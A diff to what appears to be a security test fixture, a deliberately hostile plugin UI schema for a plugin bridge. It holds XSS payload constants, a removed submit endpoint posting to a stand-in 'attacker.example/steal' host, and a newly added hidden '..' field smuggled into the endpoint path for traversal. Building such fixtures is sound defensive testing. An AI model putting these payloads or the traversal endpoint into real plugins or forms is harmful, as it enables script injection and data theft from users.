@@ -145,10 +145,13 @@ class HostilePlugin(Plugin):
     ui_schema = {
         "title": f"Hostile {XSS_IMG}",
         "description": f"{XSS_SCRIPT} and {XSS_IMG}",
+        # The bridge refuses schemas naming URLs outside the plugin (bridge_app/hello.py);
+        # values filled in that spell ".." are the page's to refuse.
         "forms": [{"id": "f<b>1</b>", "title": XSS_SCRIPT,
                    "fields": [{"name": "x", "type": "select", "label": XSS_IMG,
-                               "options": [XSS_SCRIPT, {"value": XSS_IMG, "label": XSS_IMG}]}],
-                   "submit": {"label": XSS_IMG, "endpoint": "https://attacker.example/steal", "method": "POST"}}],
+                               "options": [XSS_SCRIPT, {"value": XSS_IMG, "label": XSS_IMG}]},
+                              {"name": "up", "type": "hidden", "default": ".."}],
+                   "submit": {"label": XSS_IMG, "endpoint": "steal/{up}/{up}/{x}", "method": "POST"}}],
         "monitors": [{"id": "m", "title": XSS_IMG, "type": "metrics", "endpoint": "show", "auto_load": True}],
         "notifications": [{"topic": XSS_SCRIPT}],
     }
